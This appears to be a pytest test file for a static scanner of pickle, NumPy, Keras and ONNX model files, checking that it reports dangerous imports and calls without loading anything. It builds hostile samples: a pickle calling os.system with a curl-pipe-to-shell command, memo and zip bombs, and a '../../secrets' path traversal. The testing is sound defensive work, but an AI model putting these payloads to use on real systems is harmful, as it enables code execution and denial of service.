"""What loading a file would import and call is found, and nothing is loaded."""

from __future__ import annotations

import gzip
import pickle
import time
import tracemalloc
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from ml_debugger.artifacts import FileRead, PickleContents
from ml_debugger.readers.head import read_head
from ml_debugger.readers.opening import open_whole
from ml_debugger.readers.pickles import contents_of, record
from ml_debugger.testing.hostile_pickles import CALL, EVASIONS, call, tarred, text, zipped

Write = Callable[[str, str | bytes], Path]
_SETTINGS = settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
WITHOUT_IMPORT = {"extension registry", "state of an imported name"}


def contents(file: Path) -> PickleContents | None:
    return contents_of(read_head(file, file.name))


def names(file: Path) -> list[str]:
    found = contents(file)
    return [] if found is None else [one.name for one in found.imports]


@pytest.mark.parametrize("case", EVASIONS)
def test_every_detour_is_followed(case: str, write: Write) -> None:
    found = contents(write(*EVASIONS[case]()))
    assert found is not None
    assert found.pickles > 0
    assert found.imports
    assert found.calls or case == "breaks after the call"


def test_position_and_member_say_where(write: Write) -> None:
    found = contents(write("m.zip", zipped(zipped(CALL, "b/data.pkl"), "a.zip")))
    assert found is not None
    (one,) = found.imports
    assert (one.name, one.member, one.position) == ("os.getpid", "a.zip/b/data.pkl", 11)


def test_arguments_are_written_out_in_bounds(write: Write) -> None:
    found = contents(write("m.pkl", call("os", "system", "curl https://example.org | sh")))
    assert found is not None
    assert found.calls[0].arguments == ("'curl https://example.org | sh'",)
    found = contents(
        write("m.pkl", b"\x80\x04cos\nsystem\nX\x00\x00\x01\x00" + b"a" * 65_536 + b"\x85R.")
    )
    assert found is not None
    assert len(found.calls[0].arguments[0]) < 200


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("prices.csv", b"close,open\n1,2\n"),
        ("close.csv", b"close\nopen\n(tR"[:11]),
        ("a.txt", b"Volume\n100\n0\n"),
        ("a.json", b'{"a": 1}'),
        ("page.pkl", b"<!doctype html><p>.</p>"),
        ("image.pt", b"\x89PNG\r\n\x1a\n"),
        ("pointer.joblib", b"version https://git-lfs.github.com/spec/v1\n"),
        ("raw.bin", bytes(range(256)) * 9),
        ("empty.pkl", b""),
        ("a.zip", zipped(b"plain text", "a.txt")),
        ("a.tar", tarred(b"plain text", "a.txt")),
    ],
)
def test_what_is_no_pickle_yields_nothing(name: str, content: bytes, write: Write) -> None:
    assert contents(write(name, content)) is None


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"7z\xbc\xaf\x27\x1c" + bytes(40), "is a 7z archive, which is not unpacked"),
        (b"\x28\xb5\x2f\xfd" + bytes(40), "is a zstd archive, which is not unpacked"),
        (b"\x04\x22\x4d\x18" + bytes(40), "is a lz4 archive, which is not unpacked"),
    ],
)
def test_what_cannot_be_opened_is_named(content: bytes, reason: str, write: Write) -> None:
    found = contents(write("m.pkl", content))
    assert found is not None
    assert found.unread == (reason,)


def test_an_encrypted_member_is_named(write: Write) -> None:
    archive = bytearray(zipped(np.random.default_rng(1).bytes(200), "m.pkl"))
    archive[6] |= 1
    archive[archive.index(b"PK\x01\x02") + 8] |= 1
    found = contents(write("m.zip", bytes(archive)))
    assert found is not None
    assert found.unread == ("m.pkl: is encrypted",)


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_plain_values_import_what_they_are_made_of(protocol: int, write: Write) -> None:
    found = contents(write("v.pkl", pickle.dumps({"a": np.arange(3.0)}, protocol)))
    assert found is not None
    assert {one.name.rpartition(".")[2] for one in found.imports} <= {
        "_reconstruct", "ndarray", "dtype", "encode", "_frombuffer"
    }  # fmt: skip


def test_arrays_of_objects_need_to_be_allowed(tmp_path: Path) -> None:
    file = tmp_path / "names.npy"
    np.save(file, np.array(["a", None], dtype=object))
    found = contents(file)
    assert found is not None
    assert found.objects
    np.save(file, np.arange(3))
    found = contents(file)
    assert found is not None
    assert (found.objects, found.pickles) == (False, 0)


def test_memos_that_share_without_end_are_written_out_in_bounds(write: Write) -> None:
    laughs = b"\x80\x04]\x94" + b"".join(
        b"]\x94(" + b"h" + bytes([level]) + (b"h" + bytes([level])) * 9 + b"e"
        for level in range(60)
    )
    found = contents(write("laughs.pkl", b"\x80\x04cos\ngetpid\n(" + laughs[2:] + b"tR."))
    assert found is not None
    assert sum(map(len, found.calls[0].arguments)) < 5_000


@pytest.mark.parametrize("opener", [b"(", b"]", b"(l", b"}", b"N\x85"])
def test_deep_nesting_ends(opener: bytes, write: Write) -> None:
    closing = b"a" * 50_000 if opener in (b"]", b"(l") else b""
    write("deep.pkl", CALL[:-1] + opener * 50_000 + closing + b".")
    assert names(write("deep.pkl", CALL[:-1] + opener * 50_000 + closing)) == ["os.getpid"]


def test_archives_inside_archives_end(write: Write) -> None:
    content = CALL
    for level in range(12):
        content = zipped(content, f"{level}.zip")
    found = contents(write("m.zip", content))
    assert found is not None
    assert "lies deeper than" in found.unread[0]


def test_a_zip_bomb_is_not_unpacked(write: Write, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(record, "MAX_UNPACKED", 8 << 20)
    bomb = pickle.PROTO + b"\x04B\xff\xff\xff\x7f" + bytes(64 << 20)
    tracemalloc.start()
    found = contents(write("bomb.joblib", zlib.compress(bomb, 9)))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 8 << 20
    assert found is not None
    assert "were unpacked" in found.unread[0]


def test_a_pickle_of_two_gigabytes_is_walked_over(tmp_path: Path) -> None:
    file = tmp_path / "large.pkl"
    length = (2 << 30) + 5
    with file.open("wb") as stream:
        stream.write(b"\x80\x04\x8e" + length.to_bytes(8, "little"))
        stream.seek(length, 1)
        stream.write(b"0" + CALL)
    started = time.monotonic()
    assert names(file) == ["os.getpid"]
    assert time.monotonic() - started < 60


def test_more_opcodes_than_are_followed_are_told(
    write: Write, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(record, "MAX_OPCODES", 1_000)
    found = contents(write("long.pkl", b"\x80\x04" + b"N0" * 2_000 + CALL))
    assert found is not None
    assert (found.imports, found.unread) == ((), ("only its first 1,000 opcodes were followed",))


def test_the_reading_of_the_file_comes_last(write: Write) -> None:
    found = open_whole(write("m.pkl", CALL), "m.pkl", named=True)
    assert [type(one) for one in found if isinstance(one, PickleContents)] == [PickleContents]
    assert isinstance(found[-1], FileRead)


def test_nothing_is_loaded(tmp_path: Path, write: Write) -> None:
    trace = tmp_path / "trace"
    for name, content in (
        ("m.pkl", call("io", "open", str(trace), "w")),
        ("m.npy", b"\x93NUMPY" + call("io", "open", str(trace), "w")),
        ("m.pt", zipped(call("io", "open", str(trace), "w"))),
    ):
        open_whole(write(name, content), name, named=True)
    assert not trace.exists()


@_SETTINGS
@given(
    st.binary(max_size=400), st.sampled_from(["", "\x80\x04", "PK\x03\x04", "\x93NUMPY\x01\x00"])
)
@example(b"", "PK\x05\x06")
def test_arbitrary_bytes_raise_nothing(tmp_path: Path, content: bytes, start: str) -> None:
    file = tmp_path / "any.pkl"
    file.write_bytes(start.encode("latin-1") + content)
    contents(file)


@_SETTINGS
@given(st.data(), st.sampled_from(sorted(EVASIONS)))
def test_cut_and_damaged_files_raise_nothing(
    tmp_path: Path, data: st.DataObject, case: str
) -> None:
    name, content = EVASIONS[case]()
    changed = bytearray(content[: data.draw(st.integers(1, len(content)))])
    place = data.draw(st.integers(0, len(changed) - 1))
    changed[place] = data.draw(st.integers(0, 255))
    file = tmp_path / name
    file.write_bytes(bytes(changed))
    contents(file)


@_SETTINGS
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.binary(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner) | st.tuples(inner),
    ),
    st.integers(0, pickle.HIGHEST_PROTOCOL),
)
def test_plain_values_call_nothing_of_the_system(
    tmp_path: Path, value: object, protocol: int
) -> None:
    file = tmp_path / "any.pkl"
    file.write_bytes(pickle.dumps(value, protocol))
    assert set(names(file)) <= {"_codecs.encode", "builtins.bytes"}


def test_keras_layers_with_code_are_found(write: Write) -> None:
    function = '"config": {"function": {"class_name": "__lambda__"}}'
    layer = f'{{"module": "builtins", "class_name": "Lambda", {function}}}'
    found = contents(write("m.keras", zipped(layer.encode(), "config.json")))
    assert found is not None
    assert "keras-lambda" in {code.kind for code in found.code}
    stored = (
        b'"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAAAAAAAAAAAAEAAAAC"]}'
    )
    found = contents(write("m.h5", b"\x89HDF\r\n\x1a\n" + bytes(500) + stored))
    assert found is not None
    assert [code.kind for code in found.code] == ["keras-lambda"]


def test_paths_of_onnx_values_are_found(write: Write) -> None:
    entry = b"\x0a\x08location\x12\x0d../../secrets"
    found = contents(write("m.onnx", b"\x08\x07\x12\x02ab" + entry))
    assert found is not None
    assert [code.text for code in found.code] == ["../../secrets"]


def test_gzipped_text_and_tables_yield_nothing(write: Write) -> None:
    assert contents(write("p.csv.gz", gzip.compress(b"date,close\n2020-01-01,1\n"))) is None
    assert contents(write("t.pkl", text("only a text"))) is None
